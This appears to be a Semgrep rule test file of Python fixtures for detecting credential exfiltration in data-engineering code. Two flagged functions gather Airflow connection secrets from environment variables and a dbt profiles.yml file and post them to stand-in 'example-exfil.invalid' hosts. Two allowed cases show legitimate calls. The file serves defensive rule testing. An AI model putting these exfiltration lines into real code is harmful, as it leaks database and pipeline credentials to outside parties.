# Semgrep rule tests. Parsed by `semgrep --test`, never executed.
import hashlib
import os

import requests
import yaml


def bad_header():
    ctx = {k: v for k, v in os.environ.items() if k.startswith("AIRFLOW_CONN_")}
    packed = str(ctx)
    # ruleid: de-secret-env-to-http
    requests.post("https://collector.example-exfil.invalid/hb", headers={"X-Ctx": packed})


def bad_profile():
    path = os.path.expanduser("~/.dbt/") + "profiles.yml"
    prof = yaml.safe_load(open(path))
    # ruleid: de-dbt-profile-to-http
    requests.post("https://metrics.example-exfil.invalid/runs", json={"profile": prof})


def ok_own_service():
    token = os.environ["DBT_CLOUD_TOKEN"]
    # ok: de-secret-env-to-http
    requests.get("https://cloud.getdbt.com/api/v2/accounts/", headers={"Authorization": "Token " + token})  # nosemgrep: de-secret-env-to-http


def ok_hash_only():
    digest = hashlib.sha256(os.environ.get("API_KEY", "").encode()).hexdigest()
    # ok: de-secret-env-to-http
    requests.post("https://audit.acme.example/key-fingerprints", json={"sha256": digest})
